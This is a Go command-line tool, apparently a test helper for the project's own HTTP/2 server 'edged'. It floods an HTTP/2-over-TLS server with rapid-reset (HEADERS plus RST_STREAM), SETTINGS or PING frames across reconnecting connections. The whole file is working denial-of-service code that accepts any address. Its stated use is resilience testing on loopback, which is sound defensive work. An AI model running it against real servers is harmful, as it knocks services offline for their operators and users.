// Command h2attack abuses an HTTP/2 server over TLS from several
// connections at once, for a bounded time, opening a new connection
// whenever the server closes one: rapid reset (HEADERS then RST_STREAM,
// over and over), a SETTINGS flood or a PING flood. It writes frames by
// hand, as an attacker would; the tests run it against edged on
// loopback, in a process of its own so that its CPU is not the client's.
//
//	h2attack -addr 127.0.0.1:8443 -kind reset -for 15s -conns 4 -path /sleep?s=0.2
//
// It prints how many batches it wrote on how many connections.
package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

func frame(typ, flags byte, stream uint32, payload []byte) []byte {
	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), typ, flags}
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}

// hpackGET is GET https://localhost<path> in HPACK, with no table and no
// Huffman coding (paths under 127 bytes).
func hpackGET(path string) []byte {
	b := []byte{0x82, 0x87, 0x01, 9}
	b = append(b, "localhost"...)
	b = append(b, 0x04, byte(len(path)))
	return append(b, path...)
}

func main() {
	addr := flag.String("addr", "", "the server's host:port")
	kind := flag.String("kind", "reset", "reset, settings or ping")
	dur := flag.Duration("for", 15*time.Second, "how long to attack (at most 5m)")
	conns := flag.Int("conns", 4, "connections at once")
	path := flag.String("path", "/", "the path of reset requests; &n=ID is added")
	flag.Parse()
	if *addr == "" || *dur > 5*time.Minute {
		fmt.Fprintln(os.Stderr, "h2attack: -addr is required and -for at most 5m")
		os.Exit(2)
	}
	var next func(conn, i int) []byte
	switch *kind {
	case "reset":
		sep := "?"
		for _, c := range *path {
			if c == '?' {
				sep = "&"
			}
		}
		next = func(conn, i int) []byte {
			id := uint32(2*i + 1)
			p := fmt.Sprintf("%s%sn=a%d-%d", *path, sep, conn, i)
			return append(frame(1, 0x5, id, hpackGET(p)), frame(3, 0, id, []byte{0, 0, 0, 8})...)
		}
	case "settings":
		next = func(int, int) []byte { return frame(4, 0, 0, nil) }
	case "ping":
		next = func(int, int) []byte { return frame(6, 0, 0, make([]byte, 8)) }
	default:
		fmt.Fprintln(os.Stderr, "h2attack: -kind is reset, settings or ping")
		os.Exit(2)
	}
	conf := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}
	end := time.Now().Add(*dur)
	var sent, opened atomic.Int64
	var wg sync.WaitGroup
	for range *conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for time.Now().Before(end) {
				c, err := tls.Dial("tcp", *addr, conf)
				if err != nil {
					time.Sleep(10 * time.Millisecond)
					continue
				}
				n := int(opened.Add(1))
				go io.Copy(io.Discard, c)
				bw := bufio.NewWriterSize(c, 32<<10)
				bw.WriteString(preface)
				bw.Write(frame(4, 0, 0, nil))
				for i := 0; time.Now().Before(end); i++ {
					bw.Write(next(n, i))
					c.SetWriteDeadline(time.Now().Add(2 * time.Second))
					if bw.Flush() != nil {
						break
					}
					sent.Add(1)
				}
				c.Close()
			}
		}()
	}
	wg.Wait()
	fmt.Printf("%d batches on %d connections\n", sent.Load(), opened.Load())
}
